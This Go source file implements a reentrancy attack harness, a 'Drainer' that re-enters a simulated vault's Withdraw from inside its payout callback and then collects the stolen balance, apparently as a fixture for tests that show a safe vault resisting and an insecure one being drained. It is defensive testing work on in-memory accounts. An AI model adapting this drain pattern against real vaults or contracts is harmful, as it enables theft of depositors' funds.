// Package attack implements the adversary harness: a hostile counterparty
// that, on receiving value, immediately re-invokes Withdraw on its target.
//
// Against the vault package the nested call must fail with
// ErrInsufficientBalance and the pool keeps every other depositor's value.
// Against the insecure package the same harness drains the pool. Both
// outcomes are pinned by tests.
package attack

import (
	"context"
	"errors"
	"log/slog"
	"sync"

	"github.com/xraph/vault"
	"github.com/xraph/vault/id"
	"github.com/xraph/vault/transfer"
	"github.com/xraph/vault/types"
)

// Sentinel errors for harness orchestration.
var (
	ErrUnauthorized = errors.New("attack: unauthorized")
	ErrNotFunded    = errors.New("attack: controller holds no seed funds")
)

// Target is the withdrawal surface the harness exploits. Both the safe and
// the insecure vault satisfy it.
type Target interface {
	Address() id.ID
	Deposit(ctx context.Context, caller id.ID, amount types.Amount) error
	Withdraw(ctx context.Context, caller id.ID, amount types.Amount) error
	BalanceOf(acct id.ID) types.Amount
	Total() types.Amount
}

// Drainer is the hostile counterparty. It registers itself as the receiver
// for its own address; every time value lands it re-enters the target's
// Withdraw until the pool cannot pay or the depth bound is hit.
type Drainer struct {
	addr       id.ID
	controller id.ID
	target     Target
	router     *transfer.Router
	seed       types.Amount
	maxDepth   int
	logger     *slog.Logger

	mu         sync.Mutex
	depth      int
	nestedErrs []error
}

// Option configures a Drainer.
type Option func(*Drainer)

// WithMaxDepth bounds the number of nested re-entries.
func WithMaxDepth(n int) Option {
	return func(d *Drainer) {
		d.maxDepth = n
	}
}

// WithLogger sets the logger.
func WithLogger(logger *slog.Logger) Option {
	return func(d *Drainer) {
		d.logger = logger
	}
}

// NewDrainer creates a Drainer controlled by controller, aimed at target,
// withdrawing seed per round. It registers its receiver with the router.
func NewDrainer(controller id.ID, target Target, router *transfer.Router, seed types.Amount, opts ...Option) *Drainer {
	d := &Drainer{
		addr:       id.NewAccount(),
		controller: controller,
		target:     target,
		router:     router,
		seed:       seed,
		maxDepth:   64,
		logger:     slog.Default(),
	}

	for _, opt := range opts {
		opt(d)
	}

	router.Register(d.addr, transfer.ReceiverFunc(d.receive))
	return d
}

// Address returns the Drainer's own account identity.
func (d *Drainer) Address() id.ID { return d.addr }

// receive runs synchronously inside the target's transfer step. This is
// the re-entry: the outer Withdraw has not returned yet.
func (d *Drainer) receive(ctx context.Context, from id.ID, amount types.Amount) error {
	if !from.Equal(d.target.Address()) {
		// Ordinary funding transfer, not a withdrawal payout.
		return nil
	}

	d.mu.Lock()
	d.depth++
	depth := d.depth
	d.mu.Unlock()

	if depth >= d.maxDepth {
		return nil
	}

	// Keep pulling while the pool can still pay a full round.
	if d.router.Holdings(d.target.Address()) < d.seed {
		return nil
	}

	d.logger.Debug("reentering withdraw",
		"depth", depth,
		"pool", d.router.Holdings(d.target.Address()),
	)

	if err := d.target.Withdraw(ctx, d.addr, d.seed); err != nil {
		d.mu.Lock()
		d.nestedErrs = append(d.nestedErrs, err)
		d.mu.Unlock()
	}

	// Accepting the delivered value keeps the outer transfer successful
	// regardless of how the nested attempt fared.
	return nil
}

// Attack funds the Drainer's account from the controller's holdings,
// deposits the seed into the target, and triggers the withdrawal that the
// receiver re-enters. Fails with ErrUnauthorized unless invoked by the
// designated controller.
func (d *Drainer) Attack(ctx context.Context, caller id.ID) error {
	if !caller.Equal(d.controller) {
		return ErrUnauthorized
	}

	if d.router.Holdings(d.controller) < d.seed {
		return ErrNotFunded
	}
	if err := d.router.Send(ctx, d.controller, d.addr, d.seed); err != nil {
		return err
	}

	if err := d.target.Deposit(ctx, d.addr, d.seed); err != nil {
		return err
	}

	d.mu.Lock()
	d.depth = 0
	d.nestedErrs = nil
	d.mu.Unlock()

	err := d.target.Withdraw(ctx, d.addr, d.seed)

	d.logger.Info("attack finished",
		"loot", d.Loot(),
		"pool", d.router.Holdings(d.target.Address()),
		"nested_errors", len(d.NestedErrors()),
		"outer_error", err,
	)
	return err
}

// CollectStolenFunds moves everything the Drainer holds to the controller.
// Fails with ErrUnauthorized unless invoked by the designated controller.
func (d *Drainer) CollectStolenFunds(ctx context.Context, caller id.ID) (types.Amount, error) {
	if !caller.Equal(d.controller) {
		return 0, ErrUnauthorized
	}

	loot := d.router.Holdings(d.addr)
	if loot.IsZero() {
		return 0, nil
	}
	if err := d.router.Send(ctx, d.addr, d.controller, loot); err != nil {
		return 0, err
	}
	return loot, nil
}

// Loot returns the value currently held by the Drainer's account.
func (d *Drainer) Loot() types.Amount {
	return d.router.Holdings(d.addr)
}

// NestedErrors returns the errors collected from re-entrant withdrawal
// attempts, in order.
func (d *Drainer) NestedErrors() []error {
	d.mu.Lock()
	defer d.mu.Unlock()
	out := make([]error, len(d.nestedErrs))
	copy(out, d.nestedErrs)
	return out
}

// PoolDrained reports whether the target's pool holdings fell below one
// seed round — the exploit's success condition.
func (d *Drainer) PoolDrained() bool {
	return d.router.Holdings(d.target.Address()) < d.seed
}

// Compile-time check that the safe vault satisfies Target.
var _ Target = (*vault.Vault)(nil)
